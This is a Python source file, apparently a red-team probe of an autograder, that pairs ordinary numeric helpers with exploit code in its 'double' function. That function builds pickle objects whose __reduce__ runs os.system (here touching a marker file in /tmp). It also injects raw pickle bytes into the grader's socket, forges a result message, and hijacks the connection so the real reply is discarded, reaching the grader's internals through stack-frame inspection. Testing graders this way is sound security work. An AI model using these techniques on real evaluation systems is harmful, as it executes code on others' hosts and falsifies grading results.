import io
import os
import pickle
import sys
import time

wire = sys.modules["autograder.wire"]

import numpy as np


def found(name):
    """Return a local variable of the code that called us."""
    frame = sys._getframe()
    while name not in frame.f_locals or frame.f_code.co_filename == __file__:
        frame = frame.f_back
    return frame.f_locals[name]


def send(data):
    found("connection")._sock.sendall(data)
    time.sleep(60)


def reply(values, payload=b"", after=(), failure=None):
    message = wire.Result(found("request").id, list(values), list(after), failure, [], 0)
    connection = found("connection")
    connection.send(message, [payload] if payload else [])
    connection._sock = Deaf(connection)


class Deaf:
    """Takes in the true reply, and is gone."""

    def __init__(self, connection):
        self.connection, self.sock = connection, connection._sock

    def send(self, data):
        self.connection._sock = self.sock
        return len(data)


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-redteam/pickled",)

    __getstate__ = __reduce__


def double(x):
    size = np.size(x)
    if size == 1:
        return Command()
    if size == 2:
        return np.array([Command(), Command()], dtype=object)
    if size == 5:
        body = pickle.dumps(Command())
        send(len(body).to_bytes(4, "little") + bytes(8) + body)
    if size == 3:
        return {"__reduce__": ["os.system", "touch /tmp/autograder-redteam/pickled"]}
    file = io.BytesIO()
    np.save(file, np.array([Command()], dtype=object), allow_pickle=True)
    reply([wire.Array("|u1", [len(file.getvalue())])], file.getvalue())


def total(x):
    x = np.asarray(x)
    if x.size == 0:
        raise ValueError(f"x must not be empty, got shape {x.shape}")
    return x.sum()


def scale_to(x, target):
    x = np.asarray(x)
    if x.size == 0:
        raise ValueError(f"x must not be empty, got shape {x.shape}")
    return x * (target / x.sum())
